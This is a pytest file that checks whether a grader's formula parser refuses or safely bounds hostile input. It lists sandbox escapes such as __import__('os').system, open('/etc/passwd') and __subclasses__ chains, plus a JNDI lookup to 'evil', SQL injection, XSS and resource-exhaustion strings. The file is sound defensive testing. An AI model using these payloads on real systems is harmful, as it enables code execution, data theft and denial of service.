"""Hostile input: every string is refused with a column (or, if it is a formula, evaluated
within bounds), nothing is executed, and each answer comes quickly."""

from __future__ import annotations

import sys
import time

import numpy as np
import pytest

from grader.mathexpr import FormulaError, Namespace, evaluate, parse

from .conftest import FUNCTIONS, SIZES, chapter_values

INJECTION = [
    "__import__('os')",
    '__import__("os").system("touch /tmp/pwned")',
    "eval('1+1')",
    "exec('import os')",
    "open('/etc/passwd')",
    "os.system('ls')",
    "import os",
    "from os import system",
    "globals()",
    "locals()",
    "vars()",
    "getattr(x, 'T')",
    "compile('1', '', 'eval')",
    "breakpoint()",
    "input()",
    "print(x)",
    "().__class__.__bases__[0].__subclasses__()",
    "x.__class__",
    "x.__dict__",
    "x.T.__class__",
    "W1.shape",
    "x.T.T.__len__()",
    "x[0]",
    "x[::-1]",
    "W1[0, 1]",
    "lambda x: x",
    "lambda: 0",
    "(lambda: 0)()",
    "[x for x in y]",
    "{1: 2}",
    "{x}",
    "x if y else z",
    "x and y",
    "not x",
    "x or y",
    "x; y",
    "x == y",
    "x < y",
    "x % y",
    "x // y",
    "x & y",
    "x | y",
    "~x",
    "x << 2",
    "'abc'",
    '"abc"',
    "b'x'",
    "f'{x}'",
    "# comment",
    "x # comment",
    "$x$",
    "\\lambda W1",
    "\\frac{1}{2}",
    "<script>alert(1)</script>",
    "&lt;x&gt;",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "1; DROP TABLE users",
    "' OR 1=1 --",
    "np.exp(z)",
    "numpy.linalg.inv(W1)",
    "sys.exit()",
    "quit()",
    "x.T.T.T.T.T.__globals__",
    "exp.__code__",
    "phi.__closure__",
    "W1 @ x if True else 0",
    "*args",
    "**kwargs",
    "x := 3",
    "async def f(): pass",
]

RESOURCES = [
    "9^9^9^9",
    "9**9**9**9",
    "(((9^9)^9)^9)^9",
    "2^1000",
    "x^100000",
    "x^1e10",
    "x^(10^9)",
    "x^-1000",
    "x^0.5^0.5",
    "10**9**9",
    "ones(10**9, 10**9)",
    "ones(10^9, 10^9)",
    "ones(100000)",
    "eye(1000000)",
    "eye(1e300)",
    "ones(1000, 1000) @ ones(1000, 1000)",
    "ones(1000, 1000) @ ones(1000, 1000) @ ones(1000, 1000)",
    "outer(ones(1000), ones(1000)) @ outer(ones(1000), ones(1000))",
    "diag(ones(1000)) @ diag(ones(1000))",
    "ones(1000, 1000) + ones(1000, 1000) + ones(1000, 1000) + ones(1000, 1000)",
    "ones(-1)",
    "ones(0)",
    "ones(h*1000)",
    "ones(1000, 1000)^10",
    "(" * 10_000 + "x" + ")" * 10_000,
    "(" * 29 + "x" + ")" * 29,
    "(" * 31 + "x" + ")" * 31,
    "-" * 1000 + "x",
    "-" * 70 + "x",
    "x" + "+x" * 999,
    "x" + "+x" * 100,
    "x" + " x.T" * 300,
    "x" + ".T" * 500,
    "exp(" * 100 + "z" + ")" * 100,
    "exp(" * 25 + "z" + ")" * 25,
    "a" * 1_000_000,
    "x " * 500_000,
    "(" * 1_000_000,
    "1" * 10_000,
    "9" * 400,
    "1e308",
    "1e309",
    "1e-400 x",
    "0." + "0" * 50 + "1",
    "123456789012345678901234567890",
    "1000000001",
    "1e9 * 1e9 * 1e9 * 1e9 * 1e9 * 1e9 * 1e9 * 1e9 * 1e9 * 1e9",
    "sum(" * 30 + "x" + ")" * 30,
    "ones(1000, 1000) + (ones(1000, 1000) + (ones(1000, 1000) + (ones(1000, 1000) + "
    "(ones(1000, 1000) + ones(1000, 1000)))))",
]

NON_FINITE = [
    "nan",
    "NaN",
    "inf",
    "-inf",
    "Infinity",
    "∞",
    "float('nan')",
    "0/0",
    "log(0 z)",
    "1e999",
    "x/0",
]

UNICODE = [
    "x\u202e",
    "\u200bx",
    "\ufeffx",
    "x\u0000",
    "x\x1b[31m",
    "\x07",
    "💥",
    "𝑥",
    "ｘ",
    "а",
    "W１",
    "x\u0301",
    "\ud800",
    "Ⅸ",
    "x²²²²",
    "⁽¹⁾",
    "ᵀᵀᵀ",
    "xᵀᵀ",
    "٣ x",
    "x\t+\ty",
    "x\r\n+ x",
    "x\u2028+ x",
    "W₁₁",
    "λλ",
    "φ'",
    "x⁻¹",
]

SYNTAX = [
    "",
    "   ",
    ")",
    "(",
    "()",
    ",",
    "x, y",
    "exp(x",
    "sum()",
    "sum(x,)",
    "sum(, x)",
    "sum(x, 0, 1)",
    "sum(x, -1)",
    "sum(x, y)",
    "exp(x, y)",
    "phi''(z)",
    "phi'",
    "'",
    "''",
    "x'",
    ".",
    "..",
    "...",
    "x..T",
    "x.T.T.T",
    "x.t",
    "x^",
    "x**",
    "x***2",
    "^2",
    "@x",
    "*x",
    "x@",
    "x +",
    "+",
    "-",
    "--x",
    "x @@ y",
    "x ** ** 2",
    "2x",
    "2e",
    "0x10",
    "1_000",
    "1.2.3",
    "W^(1",
    "W^(1))",
    "W_{}",
    "W_{1",
    "W⁽¹",
    "transpose(x, y)",
    "transpose'(x)",
    "ones(h, d, q)",
    "ones(x)",
]

CORPUS = INJECTION + RESOURCES + NON_FINITE + UNICODE + SYNTAX
PER_STRING_BOUND = 0.5  # seconds; the measured figure is far lower (see the benchmark)


class _Watch:
    """An audit hook that records any attempt to run code, spawn, or open files."""

    EVENTS = (
        "exec",
        "compile",
        "os.system",
        "subprocess.Popen",
        "os.exec",
        "os.posix_spawn",
        "open",
        "socket.connect",
        "ctypes.dlopen",
        "pickle.find_class",
    )
    active = False
    seen: list[str] = []

    @classmethod
    def hook(cls, event: str, args: tuple) -> None:
        if cls.active and event.startswith(cls.EVENTS):
            cls.seen.append(event)


sys.addaudithook(_Watch.hook)


def answer(text: str, ns: Namespace, values: dict) -> str:
    """Parse and, if that succeeds, evaluate; return 'refused' or 'evaluated'."""
    try:
        tree = parse(text, ns)
        result = evaluate(tree, values, FUNCTIONS, sizes=SIZES)
    except FormulaError as error:
        assert 1 <= error.column <= len(text) + 1, (text[:80], error)
        assert error.message and "Traceback" not in error.message
        assert len(error.message) < 600
        return "refused"
    assert isinstance(result, np.ndarray) and result.dtype == np.float64
    assert result.size <= 1_000_000
    return "evaluated"


def test_corpus_is_large_and_distinct() -> None:
    assert len(CORPUS) >= 100
    assert len(set(CORPUS)) == len(CORPUS)


@pytest.mark.parametrize("text", CORPUS, ids=[repr(t[:30]) for t in CORPUS])
def test_hostile_string(text: str) -> None:
    ns = Namespace.chapter()
    values = chapter_values(np.random.default_rng(7))
    parse("W1 x + b1", ns)  # warm the parser so that timing covers only this string
    _Watch.seen.clear()
    _Watch.active = True
    start = time.perf_counter()
    try:
        outcome = answer(text, ns, values)
    finally:
        elapsed = time.perf_counter() - start
        _Watch.active = False
    assert _Watch.seen == [], f"{text[:40]!r} triggered {_Watch.seen}"
    assert elapsed < PER_STRING_BOUND, f"{text[:40]!r} took {elapsed:.3f}s"
    assert outcome in ("refused", "evaluated")


EXPECTED_EVALUATED = {"x.T.T.T", "2x", "xᵀᵀ", "0/0", "x/0", "--x", "(" * 29 + "x" + ")" * 29}


def test_legitimate_strings_are_evaluated() -> None:
    ns = Namespace.chapter()
    values = chapter_values(np.random.default_rng(7))
    for text in EXPECTED_EVALUATED:
        assert answer(text, ns, values) == "evaluated", text
